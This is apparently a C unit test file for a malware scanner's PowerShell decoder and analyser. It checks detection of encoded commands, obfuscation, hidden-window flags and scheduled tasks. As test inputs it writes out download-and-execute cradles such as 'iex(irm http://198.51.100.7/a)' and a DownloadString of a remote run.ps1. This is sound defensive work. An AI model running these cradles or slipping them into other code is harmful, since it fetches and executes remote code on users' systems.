/*
 * test_powershell.c — the PowerShell decoder (src/files/ps_decode.c) and
 * analyser (an_powershell.c) on scripts made by
 * tests/gen/gen_powershell.py and on inline strings.
 */
#include "core/compat.h"

#include <setjmp.h>
#include <cmocka.h>

#include "core/core.h"
#include "files/analyser.h"
#include "fb_harness.h"
#include "files/internal.h"
#include "files/ps_decode.h"

extern const struct file_analyser file_analyser_powershell;

static struct ps_result r;
static struct ps_findings f;

static void decode_str(const char *s)
{
	ps_result_release(&r);
	ps_result_init(&r);
	assert_int_equal(ps_decode(&r, (const uint8_t *)s, strlen(s)), 0);
	ps_indicators(&r, &f);
}

static void decode_gen(const char *name)
{
	char rel[256];
	uint8_t *buf;
	size_t len;

	snprintf(rel, sizeof rel, "powershell/%s", name);
	buf = fb_load_gen(rel, &len);
	ps_result_release(&r);
	ps_result_init(&r);
	assert_int_equal(ps_decode(&r, buf, len), 0);
	ps_indicators(&r, &f);
	free(buf);
}

static bool layer_has(unsigned i, const char *needle)
{
	return i < r.nlayers && strstr(ps_layer_text(&r, i), needle) != NULL;
}

static void test_encoded_command(void **state)
{
	(void)state;
	/* "Get-Date" in UTF-16LE, behind several spellings of the switch */
	static const char *const forms[] = {
		"powershell -e RwBlAHQALQBEAGEAdABlAA==",
		"powershell -enc RwBlAHQALQBEAGEAdABlAA==",
		"powershell.exe /EncodedCommand \"RwBlAHQALQBEAGEAdABlAA==\"",
		"pwsh -EnCoDeDc RwBlAHQALQBEAGEAdABlAA==",
		"pwsh -ec RwBlAHQALQBEAGEAdABlAA==",
		"powershell \xe2\x80\x93""enc RwBlAHQALQBEAGEAdABlAA==",
	};
	for (size_t i = 0; i < MM_ARRAY_SIZE(forms); i++) {
		decode_str(forms[i]);
		assert_int_equal(r.nlayers, 2);
		assert_int_equal(r.layers[1].how, PS_HOW_ENCODED_COMMAND);
		assert_string_equal(ps_layer_text(&r, 1), "Get-Date");
		assert_true(f.ind & PS_I_ENCODED);
	}
	/* not switches: -Encoding, -ExecutionPolicy, a word inside a name */
	decode_str("Get-Content -Encoding UTF8 x; powershell -ep RwBlAHQALQBEAGEAdABlAA==");
	assert_int_equal(r.nlayers, 1);
	decode_str("x-enc RwBlAHQALQBEAGEAdABlAA==");
	assert_int_equal(r.nlayers, 1);
}

static void test_flags(void **state)
{
	static const char cmd[] = "powershell -NoP -NonI -W Hidden -Exec Bypass -c x";

	(void)state;
	assert_int_equal(ps_flags_of(cmd, sizeof cmd - 1),
			 PS_I_HIDDEN | PS_I_NOPROFILE | PS_I_NONINTERACTIVE | PS_I_BYPASS);
	assert_int_equal(ps_flags_of("-WindowStyle Normal -NoLogo", 27), 0);
}

static void test_layers(void **state)
{
	(void)state;
	decode_gen("gzip_b64.ps1");
	assert_int_equal(r.nlayers, 2);
	assert_int_equal(r.layers[1].how, PS_HOW_FROM_BASE64_GZIP);
	assert_true(layer_has(1, "DownloadString('http://198.51.100.7/run.ps1')"));
	assert_true(f.ind & PS_I_CRADLE);
	assert_true(f.ind & PS_I_COMPRESSED);

	decode_gen("deflate_b64.ps1");
	assert_int_equal(r.layers[1].how, PS_HOW_FROM_BASE64_DEFLATE);
	assert_true(f.ind & PS_I_CRADLE);

	decode_gen("chararray.ps1");
	assert_int_equal(r.layers[1].how, PS_HOW_DEOBFUSCATE);
	assert_true(layer_has(1, "$x = 'IEX'"));
	assert_true(layer_has(1, "& ('IEX') 'Write-Output 1'"));
	assert_true(f.ind & PS_I_CRADLE);

	decode_gen("concat.ps1");
	assert_true(layer_has(1, "New-Object ('Net.WebClient')"));
	assert_true(layer_has(1, "('DownloadString')"));
	assert_true(layer_has(1, "& ('IEX') $d"));
	assert_true(layer_has(1, "INVoKe-ExPrEsSiOn $d"));

	decode_gen("enc_schtask.cmd");
	assert_true(layer_has(1, "Register-ScheduledTask"));
	assert_true(f.ind & PS_I_SCHTASK);
	assert_true(f.ind & PS_I_MINER);
	assert_true(f.ind & PS_I_HIDDEN);
	assert_int_equal(f.schtask_layer, 1);

	decode_gen("cradle_utf16.ps1");
	assert_true(f.ind & PS_I_CRADLE);
	decode_gen("cradle_utf16_nobom.ps1");
	assert_true(f.ind & PS_I_CRADLE);
	decode_gen("enc_prefix.txt");
	assert_int_equal(r.nlayers, 3);
	assert_string_equal(ps_layer_text(&r, 2), "Get-Date");
}

static void test_limits(void **state)
{
	(void)state;
	decode_gen("deep.cmd");
	assert_true(r.flags & PS_F_DEPTH_LIMIT);
	assert_int_equal(r.nlayers, PS_MAX_DEPTH + 1);

	decode_gen("gzip_bomb.ps1");
	assert_true(r.flags & (PS_F_RATIO_LIMIT | PS_F_OUTPUT_LIMIT));
	/* decoded output stays under the cap; the input's copy comes on top */
	assert_true(r.text.len - (r.layers[0].len + 1) <= PS_MAX_OUTPUT + 64);

	decode_gen("bad_utf16.ps1");
	assert_true(r.flags & PS_F_BAD_UTF16);
	assert_true(f.ind & PS_I_CRADLE);

	/* a 5 MiB script is read whole: the cap is on decoded output */
	{
		size_t big = 5u << 20;
		char *b = malloc(big + 1);
		assert_non_null(b);
		memset(b, 'a', big);
		memcpy(b, "powershell -nop $x = 'a' + 'b'; ", 32);
		b[big] = '\0';
		decode_str(b);
		assert_int_equal(r.layers[0].len, big);
		assert_false(r.flags & (PS_F_OUTPUT_LIMIT | PS_F_INPUT_LIMIT));
		free(b);
	}

	/* unterminated literals and lone switches */
	decode_str("'a'+'b");
	decode_str("[char[]](1,2,");
	decode_str("[char]99999999999+");
	decode_str("-enc");
	decode_str("FromBase64String('!!!!')");
	assert_true(r.flags & PS_F_BAD_BASE64);
}

static void test_benign_decoding(void **state)
{
	(void)state;
	decode_gen("benign_admin.ps1");
	assert_false(f.ind & (PS_I_CRADLE | PS_I_SCHTASK | PS_I_ENCODED | PS_I_IEX |
			      PS_I_SYMBOLS));
}

static void test_cradle_shapes(void **state)
{
	(void)state;
	/* real cradles in other shapes */
	decode_str("(iwr 'http://198.51.100.7/a' -UseBasicParsing).Content | iex");
	assert_true(f.ind & PS_I_CRADLE);
	decode_str("iex(irm http://198.51.100.7/a)");
	assert_true(f.ind & PS_I_CRADLE);
	/* a syntax highlighter's keyword list is not a cradle */
	decode_str("keywords = ('Invoke-Expression', 'Invoke-History', 'Invoke-Item', "
		   "'Invoke-RestMethod', 'Invoke-WebRequest', 'iex', 'iwr', 'curl')");
	assert_false(f.ind & PS_I_CRADLE);
	/* far apart: an IEX in one place, a download 2 KiB later */
	{
		char buf[4096];
		memset(buf, 'x', sizeof buf);
		memcpy(buf, "iex $a ", 7);
		buf[7] = ' ';
		memcpy(buf + 2500, " (New-Object Net.WebClient) ", 28);
		buf[sizeof buf - 1] = '\0';
		decode_str(buf);
		assert_false(f.ind & PS_I_CRADLE);
	}
	/* "-e" followed by Base64 that is not UTF-16 text: no layer */
	decode_str("sed -e aGVsbG8gd29ybGQgaGVsbG8= file");
	assert_int_equal(r.nlayers, 1);
	assert_false(f.ind & PS_I_ENCODED);
}

static void test_symbol_encoding(void **state)
{
	char buf[1024];
	size_t n = 0;

	(void)state;
	/* variables named by blanks, code built from them: no letters left */
	while (n + 12 < 900) {
		memcpy(buf + n, "${  }+${ } ", 11);
		n += 11;
	}
	memcpy(buf + n, "| & ${   }", 11);
	decode_str(buf);
	assert_true(f.ind & PS_I_SYMBOLS);
	/* symbols alone, without anything run, are not enough */
	memset(buf, '+', 600);
	buf[600] = '\0';
	decode_str(buf);
	assert_false(f.ind & PS_I_SYMBOLS);
}

static struct fb_cap c;

static void run_gen(const char *name)
{
	char rel[256];
	uint8_t *buf;
	size_t len;

	snprintf(rel, sizeof rel, "powershell/%s", name);
	buf = fb_load_gen(rel, &len);
	fb_run_analyser(&file_analyser_powershell, name, buf, len, MM_KIND_SCRIPT, &c);
	free(buf);
}

static void test_analyser(void **state)
{
	(void)state;
	run_gen("enc_schtask.cmd");
	assert_int_equal(c.n, 1);
	assert_non_null(strstr(c.alerts[0], "\"mamori.files.powershell.scheduled-task\""));
	assert_non_null(strstr(c.alerts[0], "\"level\":\"high\""));
	assert_non_null(strstr(c.alerts[0], "\"decoder\":\"encodedcommand\""));
	assert_non_null(strstr(c.alerts[0], "Register-ScheduledTask"));

	run_gen("schtasks.bat");
	assert_int_equal(c.n, 2);
	assert_non_null(strstr(c.alerts[0], "\"mamori.files.powershell.download-cradle\""));
	/* encoded and hidden: critical */
	assert_non_null(strstr(c.alerts[0], "\"level\":\"critical\""));
	assert_non_null(strstr(c.alerts[0], "\"url\":\"http://198.51.100.7/run.ps1\""));
	assert_non_null(strstr(c.alerts[1], "\"mamori.files.powershell.scheduled-task\""));

	run_gen("cradle_plain.ps1");
	assert_int_equal(c.n, 1);
	assert_non_null(strstr(c.alerts[0], "\"level\":\"high\""));

	run_gen("concat.ps1");
	assert_int_equal(c.n, 1);
	assert_non_null(strstr(c.alerts[0], "download-cradle"));
	assert_non_null(strstr(c.alerts[0], "\"decoder\":\"deobfuscate\""));

	run_gen("enc_prefix.txt");
	assert_int_equal(c.n, 1);

	run_gen("benign_admin.ps1");
	assert_int_equal(c.n, 0);

	run_gen("gzip_bomb.ps1");
	assert_true(c.partials >= 1);
}

static void test_wants(void **state)
{
	struct file_view v;
	static const uint8_t u16[] = { 0xff, 0xfe, 'I', 0, 'E', 0, 'X', 0, ' ', 0, '1', 0 };

	(void)state;
	memset(&v, 0, sizeof v);
	v.path = "x.bat";
	v.kind = MM_KIND_SCRIPT;
	v.data = (const uint8_t *)"@echo off\r\npowershell -nop -c x\r\n";
	v.len = strlen((const char *)v.data);
	assert_true(file_analyser_powershell.wants(&v));
	v.data = u16;
	v.len = sizeof u16;
	v.kind = MM_KIND_TEXT;
	assert_true(file_analyser_powershell.wants(&v));
	v.data = (const uint8_t *)"#!/bin/sh\necho hello\n";
	v.len = strlen((const char *)v.data);
	assert_false(file_analyser_powershell.wants(&v));
	v.data = (const uint8_t *)"powershell";
	v.len = 10;
	v.kind = MM_KIND_PE;
	assert_false(file_analyser_powershell.wants(&v));
	/* what we decoded and handed back is not read twice */
	v.kind = MM_KIND_SCRIPT;
	v.path = "a.ps1!ps-decoded-1";
	assert_false(file_analyser_powershell.wants(&v));
}

/* ---- the word filter of ps_indicators_with() ---- */

/* the exact answer, word by word */
static uint64_t exact_words(void *arg, const uint8_t *t, size_t n)
{
	uint64_t m = 0;

	(void)arg;
	for (unsigned k = 0; k < PS_N_WORDS; k++)
		if (files_memcasemem(t, n, ps_words[k], strlen(ps_words[k])))
			m |= UINT64_C(1) << k;
	return m;
}

static uint64_t no_words(void *arg, const uint8_t *t, size_t n)
{
	(void)arg;
	(void)t;
	(void)n;
	return 0;
}

static const char *const gen_scripts[] = {
	"bad_utf16.ps1", "benign_admin.ps1", "chararray.ps1", "concat.ps1", "cradle_plain.ps1",
	"cradle_utf16.ps1", "cradle_utf16_nobom.ps1", "deep.cmd", "deflate_b64.ps1",
	"enc_prefix.txt", "enc_schtask.cmd", "gzip_b64.ps1", "schtasks.bat",
};

static void test_word_filter(void **state)
{
	struct ps_findings g;
	unsigned found = 0;

	(void)state;
	for (size_t i = 0; i < MM_ARRAY_SIZE(gen_scripts); i++) {
		decode_gen(gen_scripts[i]);
		/* the filter with the true presence changes nothing */
		ps_indicators_with(&r, &g, exact_words, NULL);
		assert_int_equal(g.ind, f.ind);
		assert_int_equal(g.ind_input, f.ind_input);
		assert_int_equal(g.cradle_layer, f.cradle_layer);
		assert_int_equal(g.schtask_layer, f.schtask_layer);
		assert_int_equal(g.url_len, f.url_len);
		found |= f.ind;
		/* and it is consulted: without words, no word indicator */
		ps_indicators_with(&r, &g, no_words, NULL);
		assert_int_equal(g.ind & (PS_I_IEX | PS_I_DOWNLOAD | PS_I_START | PS_I_POWERSHELL |
					  PS_I_SCHTASK | PS_I_MINER), 0);
	}
	/* the scripts exercise the word indicators being compared */
	assert_true(found & PS_I_CRADLE);
	assert_true(found & PS_I_SCHTASK);
	assert_true(found & PS_I_POWERSHELL);
}

/* wants_w() with the Hyperscan scratch of a worker answers as wants() */
static void test_wants_with_worker(void **state)
{
	const struct file_analyser *a = &file_analyser_powershell;
	static const char *const texts[] = {
		"@echo off\r\npowershell -nop -c x\r\n", "#!/bin/sh\necho hello\n",
		"x = '|%s' % y\n", "print('${HOME}')\n", "nothing here at all\n",
		"IEX (New-Object Net.WebClient)", "POWERSHELL", "",
	};
	struct mm_engine_env env;
	struct mm_diag d;
	struct file_view v;
	void *sh = NULL, *w;
	unsigned yes = 0;

	(void)state;
	memset(&env, 0, sizeof env);
	mm_diag_init(&d);
	assert_non_null(a->open);
	assert_int_equal(a->open(&sh, &env, &d), 0);
	w = a->worker_new_shared(sh, NULL);
	assert_non_null(w);
	memset(&v, 0, sizeof v);
	v.path = "x.txt";
	v.kind = MM_KIND_TEXT;
	for (size_t i = 0; i < MM_ARRAY_SIZE(texts); i++) {
		v.data = (const uint8_t *)texts[i];
		v.len = strlen(texts[i]);
		assert_int_equal(a->wants_w(w, &v), a->wants(&v));
		yes += a->wants(&v);
	}
	assert_int_equal(yes, 5);
	v.kind = MM_KIND_PE;
	v.data = (const uint8_t *)"powershell";
	v.len = 10;
	assert_false(a->wants_w(w, &v));
	a->worker_free(w);
	a->close(sh);
}

static int teardown(void **state)
{
	(void)state;
	ps_result_release(&r);
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_encoded_command),
		cmocka_unit_test(test_flags),
		cmocka_unit_test(test_layers),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_benign_decoding),
		cmocka_unit_test(test_symbol_encoding),
		cmocka_unit_test(test_cradle_shapes),
		cmocka_unit_test(test_analyser),
		cmocka_unit_test(test_wants),
		cmocka_unit_test(test_word_filter),
		cmocka_unit_test(test_wants_with_worker),
	};
	ps_result_init(&r);
	return cmocka_run_group_tests(tests, NULL, teardown);
}
